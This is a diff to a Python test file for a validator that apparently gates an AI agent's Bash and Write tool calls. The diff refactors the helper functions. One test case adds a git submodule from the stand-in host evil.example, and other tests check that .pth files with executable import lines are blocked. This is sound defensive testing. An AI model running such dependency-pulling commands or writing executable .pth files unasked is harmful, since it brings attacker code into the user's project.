@@ -17,13 +17,12 @@ Written before the change that makes them hold (the counts are in the docstring 
 from __future__ import annotations
 
 import json
-import subprocess
 from pathlib import Path
 
 import pytest
 
 from lighthouse_mcp.validation.decision import Validator
-from lighthouse_mcp.validation.request import make_request
+from tests.validation.conftest import decide_in, origin_repo
 
 NEW_DEPENDENCY_PLACES = [
     "git submodule add https://evil.example/tools.git vendor/tools",
@@ -122,17 +121,14 @@ ORDINARY_PTH_WRITES = [
 
 
 def _repo(root: Path) -> Path:
-    subprocess.run(["git", "init", "-q", str(root)], check=True)
-    subprocess.run(["git", "-C", str(root), "remote", "add", "origin", "git@github.com:acme/app.git"], check=True)
+    origin_repo(root)
     (root / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0", "scripts": {"test": "jest"}}))
     (root / "go.mod").write_text("module github.com/acme/app\n\ngo 1.22\n")
     return root
 
 
 def _decide(validator: Validator, root: Path, command: str) -> tuple[str, list[str]]:
-    request = make_request("Bash", {"command": command}, cwd=str(root), project=str(root), home="/home/dev")
-    decision = validator.validate(request)
-    return decision.decision, [r["rule"] for r in decision.reasons]
+    return decide_in(validator, root, "Bash", {"command": command})
 
 
 @pytest.mark.parametrize(
@@ -161,17 +157,13 @@ def test_a_pth_file_s_import_lines_are_python_that_runs(
     validator: Validator, tmp_path: Path, name: str, content: str
 ) -> None:
     root = _repo(tmp_path)
-    request = make_request("Write", {"file_path": str(root / name), "content": content}, cwd=str(root),
-                           project=str(root), home="/home/dev")  # fmt: skip
-    assert validator.validate(request).decision != "allow", (name, content)
+    assert decide_in(validator, root, "Write", {"file_path": str(root / name), "content": content})[0] != "allow"
 
 
 @pytest.mark.parametrize(("name", "content"), ORDINARY_PTH_WRITES)
 def test_an_ordinary_pth_file_is_allowed(validator: Validator, tmp_path: Path, name: str, content: str) -> None:
     root = _repo(tmp_path)
-    request = make_request("Write", {"file_path": str(root / name), "content": content}, cwd=str(root),
-                           project=str(root), home="/home/dev")  # fmt: skip
-    assert validator.validate(request).decision == "allow", (name, content)
+    assert decide_in(validator, root, "Write", {"file_path": str(root / name), "content": content})[0] == "allow"
 
 
 # Found by attacking the change above with its code in hand (each was allowed)
@@ -203,6 +195,4 @@ def test_a_pth_file_with_a_byte_order_mark_is_read_as_python_reads_it(
     validator: Validator, tmp_path: Path, content: str
 ) -> None:
     root = _repo(tmp_path)
-    request = make_request("Write", {"file_path": str(root / "x.pth"), "content": content}, cwd=str(root),
-                           project=str(root), home="/home/dev")  # fmt: skip
-    assert validator.validate(request).decision != "allow"
+    assert decide_in(validator, root, "Write", {"file_path": str(root / "x.pth"), "content": content})[0] != "allow"
